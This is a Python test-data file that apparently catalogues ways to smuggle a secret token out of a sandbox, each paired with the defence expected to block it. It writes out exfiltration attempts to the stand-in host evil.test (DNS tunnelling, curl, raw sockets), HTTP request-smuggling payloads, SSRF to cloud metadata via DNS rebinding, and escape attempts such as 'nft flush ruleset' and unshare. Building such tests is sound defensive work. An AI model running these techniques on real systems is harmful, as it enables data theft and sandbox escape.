# SPDX-License-Identifier: Apache-2.0
"""Ways to get a token out of a box, each with the wall that stops it.

RULES is what the box may do: enough that there is something to abuse. `code` runs inside, with
what clients/trick.py has; TOKEN is what must not get out. `says` is what the trick is told. A quiet
trick causes no packet at all; the others do something allowed first, and the token is looked for in
everything that arrived. `zone` is what the attacker's name server says.
"""
import dataclasses

from world import HOST4, METADATA

EVIL4, EVIL6 = "93.184.216.62", "2606:2800:220:1::3e"  # evil.test
PLACEHOLDER = "bawn-ph-" + "0123456789abcdef0123456789abcdef01234567"

RULES = [
    {"name": "api", "hosts": ["api.test"]},
    {"name": "read", "hosts": ["web.test", "*.web.test"], "methods": ["GET", "HEAD"], "paths": ["/public/**"]},
    {"name": "write", "hosts": ["mail.test"], "methods": ["GET", "POST"]},
    {"name": "go", "hosts": ["go.test"]},
    {"name": "ws", "hosts": ["ws.test"], "paths": ["/echo"]},
    {"name": "names", "hosts": ["rebind.test", "inner.test", "alias.test", "mapped.test", "nat64.test",
                                "sixtofour.test", "own.test", "loop.test", "zero.test", "mixed.test"]},
    {"name": "database", "hosts": ["db.test"], "ports": [5432], "protocols": ["tcp"]},
    {"name": "upload", "hosts": ["files.test"], "methods": ["GET", "POST"], "budget": {"bytes_up": 4000}},
    {"name": "few", "hosts": ["fast.test"], "methods": ["GET"], "budget": {"requests": 3}},
]


@dataclasses.dataclass
class Trick:
    name: str
    wall: str
    code: str
    says: str                 # a pattern, searched in what the trick printed
    kind: str = ""            # of the violation that is on record; "" = none is due
    is_quiet: bool = True
    zone: dict = dataclasses.field(default_factory=dict)
    never: tuple = ()         # addresses that no packet may go to


DNS, ROAD, RULE, HOST = "stub: no look-up", "road: every address is local", "policy", "names must agree"
ADDRESS, PARSER, CAPS, NAMESPACE = "address check", "strict HTTP", "capabilities and seccomp", "namespaces"
EXPLICIT = "policy, explicit proxy"

TRICKS = [
    # ---- names that carry something ----------------------------------------------------------
    Trick("dns-labels", DNS, "print(socket.gethostbyname(f'{TOKEN}.evil.test'))", r"198\.1[89]\.", "no_rule"),
    Trick("dns-labels-below-an-allowed-suffix", DNS,
          "print(socket.gethostbyname(f'{TOKEN}.web.test'))", r"198\.1[89]\."),
    Trick("dns-ipv6-question", DNS,
          "print(socket.getaddrinfo(f'{TOKEN}.evil.test', 443, socket.AF_INET6))", "fdba:", "no_rule"),
    Trick("dns-txt", DNS, "datagram('93.184.216.53', 53, question(f'{TOKEN}.evil.test', 16))", ".", ""),
    Trick("dns-to-another-server", DNS, "datagram('8.8.8.8', 53, question(f'{TOKEN}.evil.test'))", ".", "no_rule"),
    Trick("dns-to-another-server-ipv6", DNS,
          "datagram('2001:4860:4860::8888', 53, question(f'{TOKEN}.evil.test'), socket.AF_INET6)", ".", "no_rule"),
    Trick("dns-over-tcp", RULE,
          "q = question(f'{TOKEN}.evil.test'); say(connect('8.8.8.8', 53), struct.pack('!H', len(q)) + q)",
          r"ECONNRESET|closed", "no_rule"),
    Trick("dns-over-https-by-address", RULE,
          "run('curl', '-sS', '-k', '--noproxy', '*', f'https://8.8.8.8/dns-query?dns={TOKEN}')", "no_rule|rule", "no_rule"),
    Trick("dns-not-a-question", DNS,
          "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); "
          "s.sendto(TOKEN.encode() * 8, ('8.8.8.8', 53)); show(s.recv(512))", "."),

    # ---- addresses ---------------------------------------------------------------------------
    Trick("direct-ipv4", RULE, f"say(connect('{EVIL4}', 80), get('{EVIL4}', '/' + TOKEN))", "403", "no_rule"),
    Trick("direct-ipv6", RULE, f"say(connect('{EVIL6}', 80), get('[{EVIL6}]', '/' + TOKEN))", "403", "no_rule"),
    Trick("direct-with-an-allowed-host-field", RULE,
          f"say(connect('{EVIL4}', 80), get('api.test', '/' + TOKEN))", "403|421", "no_rule|mismatch"),
    Trick("direct-with-an-allowed-server-name", RULE,
          f"attempt(lambda: say(tls(connect('{EVIL4}', 443), 'api.test'), get('api.test', '/' + TOKEN)))",
          "403|TLS|ECONNRESET", "no_rule|mismatch"),
    Trick("decimal-octal-hex-addresses", RULE,
          "for a in ('2852039166', '0251.0376.0251.0376', '0xa9fea9fe', '169.16689662'): "
          "run('curl', '-sS', '--noproxy', '*', f'http://{a}/{TOKEN}')", "egress_denied", "no_rule"),
    Trick("odd-addresses-through-the-proxy", EXPLICIT,
          "for a in ('2852039166', '0251.0376.0251.0376', '0xa9fea9fe', '169.254.43518', '[::ffff:169.254.169.254]',"
          " '[64:ff9b::a9fe:a9fe]'): attempt(through, a, 80)", "40[03]", ""),
    Trick("ipv4-mapped", RULE, "say(connect('::ffff:169.254.169.254', 80), get('x', '/' + TOKEN))", "403|421", "no_rule|mismatch"),
    Trick("nat64", RULE, "say(connect('64:ff9b::a9fe:a9fe', 80), get('x', '/' + TOKEN))", "403|421", "no_rule|mismatch"),
    Trick("metadata", RULE, f"say(connect('{METADATA}', 80), get('{METADATA}', '/latest/' + TOKEN))", "403", "no_rule"),
    Trick("synthetic-address-of-no-name", RULE,
          "say(connect('198.18.77.77', 80), get('evil.test', '/' + TOKEN))", "403|421|ECONNRESET", ""),

    # ---- protocols other than TCP --------------------------------------------------------------
    Trick("udp", ROAD, f"datagram('{EVIL4}', 9999, TOKEN.encode())", "ECONNREFUSED"),
    Trick("udp-ipv6", ROAD, f"datagram('{EVIL6}', 9999, TOKEN.encode(), socket.AF_INET6)", "ECONNREFUSED"),
    Trick("quic-to-an-allowed-name", ROAD,
          "datagram(socket.gethostbyname('api.test'), 443, b'\\xc0' + TOKEN.encode() * 40)", "ECONNREFUSED"),
    Trick("ntp-and-syslog", ROAD,
          f"[attempt(datagram, '{EVIL4}', p, TOKEN.encode()) for p in (123, 514, 1900, 5353)]", "ECONNREFUSED"),
    Trick("broadcast-and-multicast", ROAD,
          "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(1, 6, 1)\n"
          "for to in ('255.255.255.255', '224.0.0.1', '239.1.1.1'): attempt(s.sendto, TOKEN.encode(), (to, 9))\n"
          "print('sent nowhere')", "sent nowhere"),
    Trick("icmp", CAPS, "attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))\n"
          "s = attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1))\n"
          f"s and attempt(s.sendto, b'\\x08\\0\\0\\0\\0\\0\\0\\0' + TOKEN.encode(), ('{EVIL4}', 0))", "EPERM|EACCES"),
    Trick("raw-socket", CAPS,
          "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(TOKEN.encode(), ('8.8.8.8', 0))",
          "EPERM|EACCES"),
    Trick("raw-socket-ipv6", CAPS, "socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58)", "EPERM|EACCES"),
    Trick("packet-socket", CAPS, "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)", "EPERM|EACCES|EAFNOSUPPORT"),
    Trick("vsock", CAPS, "s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(3); "
          "s.connect((2, 1024)); s.send(TOKEN.encode())", "EPERM|EACCES|EAFNOSUPPORT|ENODEV|ECONNRESET"),
    Trick("sctp-dccp-udplite", ROAD,
          "for kind, number in ((1, 132), (6, 33), (2, 136)):\n"
          "  s = attempt(lambda: socket.socket(socket.AF_INET, kind, number))\n"
          f"  s and attempt(s.connect, ('{EVIL4}', 9)) is None and attempt(s.send, TOKEN.encode())\nprint('over')", "over"),
    Trick("fast-open", RULE, "s = socket.socket(); s.settimeout(WAIT)\n"
          f"attempt(s.sendto, get('evil.test', '/' + TOKEN), 0x20000000, ('{EVIL4}', 80))\nshow(rest(s))",
          "403|ECONNRESET|closed|ENOTCONN|EOPNOTSUPP|421", ""),

    # ---- names that do not agree -----------------------------------------------------------------
    Trick("server-name-of-another", HOST,
          "attempt(lambda: say(tls(connect('api.test', 443), 'evil.test', is_checked=False), get('evil.test', '/' + TOKEN)))",
          "403|421|ECONNRESET|TLS", "mismatch"),
    Trick("host-field-of-another", HOST, "say(connect('api.test', 80), get('evil.test', '/' + TOKEN))", "421", "mismatch"),
    Trick("host-field-of-another-inside-tls", HOST,
          "say(tls(connect('web.test', 443), 'web.test'), get('evil.test', '/public/' + TOKEN))", "421", "mismatch"),
    Trick("fronting-on-keep-alive", HOST,
          "s = tls(connect('web.test', 443), 'web.test')\n"
          "s.sendall(b'GET /public/first HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n'); print(answer(s)[0])\n"
          "say(s, get('evil.test', '/public/' + TOKEN))", "(?s)200.*421", "mismatch", False),
    Trick("pipelined-second-host", HOST,
          "say(connect('api.test', 80), b'GET /first HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n' + get('evil.test', '/' + TOKEN))",
          "(?s)200.*421", "mismatch", False),
    Trick("host-field-with-user", HOST,
          "for h in ('api.test@evil.test', 'evil.test#api.test', 'evil.test/api.test', 'api.test evil.test'): "
          "attempt(lambda: say(connect('api.test', 80), get(h, '/' + TOKEN)))", "400|421", ""),
    Trick("two-host-fields", PARSER,
          "say(connect('api.test', 80), get('api.test', '/' + TOKEN, 'Host: evil.test'))", "400", "malformed"),
    Trick("encrypted-client-hello", "hello: ECH refused",
          "first(connect('api.test', 443), records(hello('api.test', (0xfe0d, b'\\0' + TOKEN.encode()))))",
          "ECONNRESET|closed|^\x16", "protocol"),  # a hello of ours, to tell the refusal inside
    Trick("tls-without-server-name", HOST,
          "attempt(lambda: say(tls(connect('api.test', 443), None, is_checked=False), get('evil.test', '/' + TOKEN)))",
          "ECONNRESET|TLS|403|421", "protocol|mismatch"),
    Trick("hello-in-fragments", HOST,
          "s = connect('api.test', 443)\nfor b in range(0, len(r := records(hello('evil.test'), 16)), 7): s.sendall(r[b:b + 7])\n"
          "first(s, b'')", "ECONNRESET|closed|^\x16", "mismatch"),
    Trick("look-alike-names", RULE,
          "for n in ('api.test.evil.test', 'evilweb.test', 'web.test.evil.test', 'xapi.test', 'API.TEST.EVIL.TEST.'): "
          "say(connect(n, 80), get(n.rstrip('.'), '/' + TOKEN))", "403", "no_rule"),

    # ---- where a name leads ------------------------------------------------------------------------
    Trick("name-of-a-private-address", ADDRESS, "say(connect('inner.test', 80), get('inner.test', '/' + TOKEN))", "403",
          "address", False, {"inner.test": [[["A", "10.1.2.3"]]]}, ("10.1.2.3",)),
    Trick("alias-of-metadata", ADDRESS, "say(connect('alias.test', 80), get('alias.test', '/' + TOKEN))", "403",
          "address", False, {"alias.test": [[["CNAME", "metadata.test"]]], "metadata.test": [[["A", METADATA]]]}, (METADATA,)),
    Trick("rebinding", ADDRESS,  # the name is looked up for each dialling anew, and each answer is judged
          "say(connect('rebind.test', 80), get('rebind.test', '/ok')); __import__('time').sleep(2)\n"
          "first(connect('rebind.test', 443), records(hello('rebind.test')))", "(?s)200.*(403|ECONNRESET|\x16)", "address", False,
          {"rebind.test": [[["A", EVIL4]], [["A", EVIL4]], [["A", METADATA]]]}, (METADATA,)),
    Trick("several-addresses", ADDRESS, "say(connect('mixed.test', 80), get('mixed.test', '/ok'))", "200|403", "", False,
          {"mixed.test": [[["A", METADATA], ["A", "10.1.2.3"], ["A", EVIL4]]]}, (METADATA, "10.1.2.3")),
    Trick("mapped-in-an-answer", ADDRESS, "say(connect('mapped.test', 80), get('mapped.test', '/' + TOKEN))", "403",
          "address", False, {"mapped.test": [[["AAAA", "::ffff:10.1.2.3"]]]}, ("10.1.2.3", "::ffff:10.1.2.3")),
    Trick("nat64-in-an-answer", ADDRESS, "say(connect('nat64.test', 80), get('nat64.test', '/' + TOKEN))", "403",
          "address", False, {"nat64.test": [[["AAAA", "64:ff9b::a01:203"]]]}, ("64:ff9b::a01:203",)),
    Trick("6to4-in-an-answer", ADDRESS, "say(connect('sixtofour.test', 80), get('sixtofour.test', '/' + TOKEN))", "403",
          "address", False, {"sixtofour.test": [[["AAAA", "2002:a01:203::1"]]]}, ("2002:a01:203::1",)),
    Trick("name-of-the-machine-itself", ADDRESS, "say(connect('own.test', 8000), get('own.test', '/' + TOKEN))\n"
          "say(connect('own.test', 80), get('own.test', '/' + TOKEN))", "403", "address|no_rule", False,
          {"own.test": [[["A", HOST4]]]}, (HOST4,)),
    Trick("name-of-loopback-and-zero", ADDRESS,
          "[say(connect(n, 80), get(n, '/' + TOKEN)) for n in ('loop.test', 'zero.test')]", "403", "address", False,
          {"loop.test": [[["A", "127.0.0.1"]]], "zero.test": [[["A", "0.0.0.0"]]]}),
    Trick("redirect-to-a-private-address", RULE,
          f"run('curl', '-sS', '-L', '--noproxy', '*', 'http://go.test/to?http://{METADATA}/latest')", "egress_denied", "no_rule", False,
          never=(METADATA,)),

    # ---- the explicit proxy ------------------------------------------------------------------------
    Trick("connect-to-a-denied-name", EXPLICIT,
          "n = f'{TOKEN}.evil.test'; s, _ = through(n, 443); say(tls(s, n), get(n, '/' + TOKEN))", "403", "no_rule"),
    Trick("connect-to-an-address", EXPLICIT,
          f"s, _ = through('{EVIL4}', 443); say(tls(s, '{EVIL4}', is_checked=False), get('evil.test', '/' + TOKEN))", "403", "no_rule"),
    Trick("connect-chain", "protocol",
          "s, _ = through('api.test', 443); first(s, f'CONNECT {TOKEN}.evil.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode())",
          "403|421|400|ECONNRESET|closed", "protocol|mismatch|malformed|no_rule"),
    Trick("connect-to-the-proxy-itself", EXPLICIT,
          "for h in ('127.0.0.1', 'localhost', '[::1]', 'bawn.internal'): attempt(through, h, 979)", "403", ""),
    Trick("connect-then-another-server-name", HOST,
          "s, _ = through('api.test', 443); attempt(lambda: say(tls(s, 'evil.test', is_checked=False), get('evil.test', '/' + TOKEN)))",
          "403|421|ECONNRESET|TLS", "mismatch"),
    Trick("absolute-form-denied", EXPLICIT,
          "say(connect(*PROXY), get('evil.test', f'http://evil.test/{TOKEN}'))", "403", "no_rule"),
    Trick("absolute-form-and-host-disagree", HOST,
          "say(connect(*PROXY), get('evil.test', f'http://api.test/{TOKEN}')); "
          "say(connect(*PROXY), get('api.test', f'http://evil.test/{TOKEN}'))", "421|400|403", ""),
    Trick("socks-to-a-denied-name", EXPLICIT,
          "n = f'{TOKEN}.evil.test'; s, _ = socks(3, bytes([len(n)]) + n.encode(), 443); say(tls(s, n), get(n, '/' + TOKEN))",
          "socks reply [1-9]|-1|403", "no_rule"),
    Trick("socks-to-an-address", EXPLICIT,
          f"s, c = socks(1, socket.inet_aton('{EVIL4}'), 80); c or say(s, get('evil.test', '/' + TOKEN))",
          "socks reply ([1-9]|-1)|403|421", "no_rule|mismatch"),
    Trick("socks-udp-and-bind", EXPLICIT,
          "for c in (2, 3): attempt(socks, 1, b'\\0\\0\\0\\0', 0, c)", "socks reply ([1-9]|-1)", ""),

    # ---- allowed hosts, forbidden requests -----------------------------------------------------------
    Trick("forbidden-method", RULE,
          "say(tls(connect('web.test', 443), 'web.test'), get('web.test', '/public/x', method='POST', body=TOKEN.encode()))",
          "403", "no_rule"),
    Trick("forbidden-path", RULE,
          "say(tls(connect('web.test', 443), 'web.test'), get('web.test', '/private/' + TOKEN))", "403", "no_rule"),
    Trick("forbidden-port", RULE, "attempt(lambda: say(tls(connect('api.test', 8443), 'api.test'), get('api.test', '/' + TOKEN)))",
          "403|ECONNRESET|TLS", "no_rule"),
    Trick("raw-bytes-on-an-http-port", "protocol", "say(connect('api.test', 443), b'SSH-2.0-' + TOKEN.encode() + b'\\r\\n')",
          "ECONNRESET|closed|400|403", "protocol|no_rule|malformed"),
    Trick("other-port-of-a-tcp-rule", RULE, "say(connect('db.test', 22), TOKEN.encode())", "ECONNRESET|closed", "no_rule"),
    Trick("path-tricks", RULE,
          "for p in ('/public/../private/', '/public/%2e%2e/private/', '/public/%2E%2E%2Fprivate/', '/public/./../private/',"
          " '//private/', '/public/..;/private/', '/public/..%5cprivate/'):\n"
          " say(tls(connect('web.test', 443), 'web.test'), get('web.test', p + TOKEN))", "40[03]", "", True),
    Trick("websocket-to-a-denied-path", RULE,
          "say(connect('ws.test', 80), get('ws.test', '/other/' + TOKEN, 'Upgrade: websocket', 'Connection: Upgrade',"
          " 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=='))", "40[03]", ""),
    Trick("method-override-of-case", RULE,
          "[say(tls(connect('web.test', 443), 'web.test'), get('web.test', '/public/' + TOKEN, method=m))"
          " for m in ('get', 'DELETE', 'GETX', 'CONNECT')]", "40[03]|501", ""),
    Trick("bytes-over-the-budget", "budget",
          "s = tls(connect('files.test', 443), 'files.test')\n"
          "attempt(lambda: say(s, get('files.test', '/bytes?1', method='POST', body=b'x' * 60000 + TOKEN.encode())))",
          "429|403|ECONNRESET|EPIPE|closed", "budget", False),
    Trick("requests-over-the-budget", "budget",
          "for n in range(6): say(tls(connect('fast.test', 443), 'fast.test'), get('fast.test', f'/{n}' + (TOKEN if n > 2 else '')))",
          "429|403", "budget", False),

    # ---- framing -----------------------------------------------------------------------------------
    Trick("length-and-chunked", PARSER,
          "say(connect('api.test', 80), f'POST / HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
          "0\\r\\n\\r\\nGET /{TOKEN} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'.encode())", "400", "malformed"),
    Trick("chunked-hidden", PARSER,
          "for f in ('Transfer-Encoding: xchunked', 'Transfer-Encoding: chunked, identity', 'Transfer-Encoding : chunked',"
          " 'Transfer-Encoding: chunked\\r\\nTransfer-Encoding: x', 'Transfer-Encoding:\\x0bchunked'):\n"
          " say(connect('api.test', 80), f'POST /{TOKEN} HTTP/1.1\\r\\nHost: api.test\\r\\n{f}\\r\\n\\r\\n0\\r\\n\\r\\n'.encode())",
          "400|501", "malformed"),
    Trick("two-lengths", PARSER,
          "say(connect('api.test', 80), f'POST /{TOKEN} HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: 1\\r\\nContent-Length: 2\\r\\n\\r\\nxx'.encode())",
          "400", "malformed"),
    Trick("folded-field", PARSER,
          "say(connect('api.test', 80), f'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\nX: a\\r\\n {TOKEN}\\r\\n\\r\\n'.encode())", "400", "malformed"),
    Trick("bare-line-feeds", PARSER,
          "say(connect('api.test', 80), f'GET /{TOKEN} HTTP/1.1\\nHost: api.test\\n\\n'.encode())", "400|ECONNRESET|closed", ""),
    Trick("split-by-a-field-value", PARSER,
          "say(connect('api.test', 80), f'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nX: a\\rGET /{TOKEN} HTTP/1.1\\r\\n\\r\\n'.encode())",
          "400", "malformed"),
    Trick("bad-chunks", PARSER,
          "for c in ('-1', '0x5', '5 ', 'ffffffffffffffff1', '5\\n'):\n"
          " say(connect('mail.test', 80), f'POST / HTTP/1.1\\r\\nHost: mail.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n{c}\\r\\n{TOKEN}\\r\\n0\\r\\n\\r\\n'.encode())",
          "400|ECONNRESET|closed|50", "", False),
    Trick("trailer-fields", PARSER,
          "say(connect('mail.test', 80), f'POST /t HTTP/1.1\\r\\nHost: mail.test\\r\\nConnection: close\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
          "1\\r\\nx\\r\\n0\\r\\nHost: {TOKEN}.evil.test\\r\\nAuthorization: {TOKEN}\\r\\n\\r\\n'.encode())", "200|400", "", False),
    Trick("http2-prior-knowledge", "protocol",
          "say(connect('web.test', 80), b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\\0\\0\\0\\4\\0\\0\\0\\0\\0' + TOKEN.encode())",
          "400|505|ECONNRESET|closed|403", ""),
    Trick("http2-only-by-alpn", "ALPN: http/1.1 only",
          "s = attempt(lambda: tls(connect('web.test', 443), 'web.test', ['h2']))\n"
          "print('protocol', s and s.selected_alpn_protocol())", "protocol None"),

    # ---- credentials' placeholders ----------------------------------------------------------------------
    Trick("placeholder-in-a-body", "placeholder",
          f"say(connect('mail.test', 80), get('mail.test', '/x', method='POST', body=b'k={PLACEHOLDER}' + TOKEN.encode()))", "403", "placeholder", False),
    Trick("placeholder-in-a-url", "placeholder",
          f"say(connect('api.test', 80), get('api.test', '/{PLACEHOLDER}/' + TOKEN)); say(connect('api.test', 80), get('api.test', '/?k={PLACEHOLDER}' + TOKEN))",
          "403", "placeholder"),
    Trick("placeholder-in-a-field", "placeholder",
          f"say(connect('api.test', 80), get('api.test', '/' + TOKEN, 'Authorization: Bearer {PLACEHOLDER}'))", "403", "placeholder"),
    Trick("placeholder-in-basic-credentials", "placeholder",
          f"c = __import__('base64').b64encode(b'user:{PLACEHOLDER}').decode()\n"
          "say(connect('api.test', 80), get('api.test', '/' + TOKEN, f'Authorization: Basic {c}'))", "403", "placeholder"),
    Trick("placeholder-in-a-name", "placeholder",
          f"attempt(lambda: say(connect('{PLACEHOLDER}.web.test', 80), get('{PLACEHOLDER}.web.test', '/public/' + TOKEN)))",
          "403|gaierror|-[0-9]|Name", "placeholder"),
    Trick("placeholder-in-a-trailer", "placeholder",
          "say(connect('mail.test', 80), ('POST /t HTTP/1.1\\r\\nHost: mail.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
          f"1\\r\\nx\\r\\n0\\r\\nX-Out: {PLACEHOLDER}' + TOKEN + '\\r\\n\\r\\n').encode())", "403|ECONNRESET|closed", "placeholder", False),
    Trick("placeholder-over-two-pieces", "placeholder",
          f"s = connect('mail.test', 80); s.sendall(b'POST /x HTTP/1.1\\r\\nHost: mail.test\\r\\nContent-Length: 200\\r\\n\\r\\n{PLACEHOLDER[:20]}')\n"
          f"__import__('time').sleep(.2); say(s, b'{PLACEHOLDER[20:]}' + TOKEN.encode() + b'x' * 200)", "403|ECONNRESET|closed", "placeholder", False),

    # ---- around the road ----------------------------------------------------------------------------------
    Trick("abstract-socket-of-the-machine", NAMESPACE,
          "s = socket.socket(socket.AF_UNIX); s.connect('\\0bawn-world-abstract'); s.send(TOKEN.encode())", "ECONNREFUSED|EPERM|ENOENT|EACCES"),
    Trick("listener-of-the-machine", NAMESPACE,
          f"attempt(lambda: say(connect('127.0.0.1', 8000), TOKEN.encode())); say(connect('{HOST4}', 8000), get('x', '/' + TOKEN))",
          "ECONNREFUSED", ""),
    Trick("another-route", CAPS, "run('/usr/sbin/ip', 'route', 'add', '8.8.8.8/32', 'dev', 'lo'); run('/usr/sbin/ip', 'link', 'add', 'x', 'type', 'dummy')\n"
          "run('/usr/sbin/ip', 'link', 'set', 'lo', 'down')", "not permitted|Operation|status [1-9]"),
    Trick("another-filter", CAPS, "run('/usr/sbin/nft', 'flush', 'ruleset')", "not permitted|Operation|No such|status"),
    Trick("a-namespace-of-its-own", NAMESPACE,
          "run('/usr/bin/unshare', '-Urn', '/bin/sh', '-c', f'ip link set lo up; curl -sS -m 3 http://93.184.216.62/{TOKEN}')", "status [1-9]"),
    Trick("the-road's-own-port", NAMESPACE, "s = socket.socket(socket.AF_INET6); s.setsockopt(1, 15, 1); s.setsockopt(1, 2, 1); s.bind(('::', 979)); print('bound')",
          "EADDRINUSE|EACCES|EPERM"),
    Trick("a-descriptor-of-the-road", NAMESPACE,
          "found = []\nfor p in filter(str.isdigit, os.listdir('/proc')):\n"
          " for f in attempt(os.listdir, f'/proc/{p}/fd') or []:\n"
          "  'socket' in (attempt(os.readlink, f'/proc/{p}/fd/{f}') or '') and found.append(p)\nprint(f'{len(found)} sockets')",
          "^0 sockets"),
]
